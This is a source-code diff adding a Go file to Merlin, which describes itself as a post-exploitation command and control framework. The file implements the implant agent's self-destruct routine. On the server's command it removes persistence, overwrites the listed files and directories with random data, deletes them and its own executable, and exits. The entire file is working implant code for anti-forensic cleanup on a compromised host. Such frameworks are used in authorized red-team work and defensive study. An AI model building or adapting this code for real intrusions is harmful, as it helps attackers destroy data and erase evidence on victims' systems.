@@ -0,0 +1,126 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"crypto/rand"
+	"fmt"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// selfDestruct removes the persistence and files in the SelfDestruct message and the agent's own executable. It
+// returns the names and paths that were removed and a line for each one that could not be removed. The agent exits
+// after it sends the results to the server.
+func (a *Agent) selfDestruct(p messages.SelfDestruct) (removed []string, failed []string) {
+	for _, persistence := range p.Persistence {
+		persistence.Action = "remove"
+		if _, err := persist(persistence); err != nil {
+			failed = append(failed, fmt.Sprintf("%s persistence %s: %s", persistence.Method, persistence.Name, err.Error()))
+			continue
+		}
+		removed = append(removed, persistence.Name)
+	}
+	for _, path := range p.Paths {
+		if err := wipe(path); err != nil {
+			failed = append(failed, fmt.Sprintf("%s: %s", path, err.Error()))
+			continue
+		}
+		removed = append(removed, path)
+	}
+	exe, err := os.Executable()
+	if err == nil {
+		err = removeExecutable(exe)
+	}
+	if err != nil {
+		failed = append(failed, fmt.Sprintf("agent executable %s: %s", exe, err.Error()))
+	} else {
+		removed = append(removed, exe)
+	}
+	a.exit = true
+	return removed, failed
+}
+
+// wipe overwrites a file, or every file in a directory, with random data before removing it. A path that no longer
+// exists has already been removed.
+func wipe(path string) error {
+	info, err := os.Lstat(path)
+	if os.IsNotExist(err) {
+		return nil
+	}
+	if err != nil {
+		return err
+	}
+	if info.IsDir() {
+		err = filepath.Walk(path, func(file string, info os.FileInfo, err error) error {
+			if err != nil {
+				return err
+			}
+			if info.Mode().IsRegular() {
+				return overwrite(file, info.Size())
+			}
+			return nil
+		})
+		if err != nil {
+			return err
+		}
+		return os.RemoveAll(path)
+	}
+	if info.Mode().IsRegular() {
+		if err = overwrite(path, info.Size()); err != nil {
+			return err
+		}
+	}
+	return os.Remove(path)
+}
+
+// overwrite replaces the contents of a file with random data and flushes it to disk
+func overwrite(path string, size int64) error {
+	f, err := os.OpenFile(path, os.O_WRONLY, 0) // #nosec G304 the path is from the server's cleanup manifest
+	if err != nil {
+		return err
+	}
+	if _, err = io.CopyN(f, rand.Reader, size); err != nil {
+		_ = f.Close()
+		return err
+	}
+	if err = f.Sync(); err != nil {
+		_ = f.Close()
+		return err
+	}
+	return f.Close()
+}
+
+// selfDestructReport returns the standard output and standard error for a selfdestruct job's results
+func selfDestructReport(removed []string, failed []string) (string, string) {
+	stdout := fmt.Sprintf("Removed %d items and exiting", len(removed))
+	if len(removed) > 0 {
+		stdout += ":\r\n" + strings.Join(removed, "\r\n")
+	}
+	var stderr string
+	if len(failed) > 0 {
+		stderr = fmt.Sprintf("%d items could not be removed:\r\n%s", len(failed), strings.Join(failed, "\r\n"))
+	}
+	return stdout, stderr
+}